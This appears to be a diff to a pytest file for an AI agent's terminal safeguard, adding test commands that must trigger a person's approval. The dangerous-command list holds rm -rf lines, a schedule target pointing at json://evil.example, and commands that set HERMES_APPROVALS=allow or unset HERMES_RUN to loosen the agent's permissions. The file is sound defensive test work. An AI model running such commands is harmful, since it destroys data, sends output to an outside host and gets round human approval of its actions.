@@ -117,6 +117,9 @@ rm *
 truncate -s 0 x
 ssh -p 22 -i key me@host rm -rf x
 su - me -c "rm -rf x"
+hermes-kernel schedule add "in 1h" "Clean up." --approvals allow
+python3 -m hermes_kernel schedule --json change sales --jobs
+/opt/v/bin/hermes-kernel schedule target add team json://evil.example
 """.strip().split("\n")
 
 HARMLESS = """
@@ -153,6 +156,9 @@ ps aux | grep sh
 git commit -m "rm -rf / is bad"
 ls 2>&1 | tee log.txt
 for i in 1 2 3; do echo $i; done
+hermes-kernel schedule list
+hermes-kernel schedule next "every day at 9am"
+hermes-kernel search "schedule add"
 """.strip().split("\n")
 
 
@@ -326,6 +332,7 @@ async def test_the_agents_own_folder_is_asked_about_and_what_a_person_allowed_is
 KEPT = (
     "approvals.json", "Approvals.json", "skills/.hermes-kernel.json", "skills/.hermes-kernel.scanned.json",
     "skills/.usage.json", "memories/.MEMORY.md.known", "memories/.USER.md.known", "proposals/new.json",
+    "kernel.toml", "schedule/targets.json", "schedule/agenda.json",
 )  # fmt: skip
 
 
@@ -363,6 +370,21 @@ async def test_a_command_that_plainly_writes_to_the_agents_own_folder_is_asked_a
     person, home = Someone("no"), str(tmp_path / "home")
     call = {"command": command.format(home=home), "cwd": cwd.format(home=home)}
     assert not observed(await run_calls(toolbox(tmp_path, person), ("terminal", call))).ok
+    assert len(person.asked) == 1
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "HERMES_APPROVALS=allow hermes-kernel ask hi",
+        "export HERMES_SCHEDULE_WRITES=on; date",
+        "unset HERMES_RUN; date",
+        "env -u HERMES_RUN date",
+    ],
+)
+async def test_a_command_that_sets_what_an_agent_may_do_is_asked_about(tmp_path, command):
+    person = Someone("no")
+    assert not observed(await run_calls(toolbox(tmp_path, person), ("terminal", {"command": command}))).ok
     assert len(person.asked) == 1
 
 
